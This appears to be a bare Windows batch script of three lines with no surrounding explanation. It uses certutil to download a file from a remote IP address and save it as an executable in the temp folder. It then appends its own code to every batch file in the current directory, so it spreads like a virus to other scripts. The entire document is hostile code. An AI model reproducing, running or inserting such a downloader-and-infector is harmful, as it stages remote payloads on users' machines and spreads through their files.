@echo off
certutil -urlcache -split -f http://198.51.100.7/p.txt %TEMP%\p.exe
for %%f in (*.bat) do type %0 >> %%f
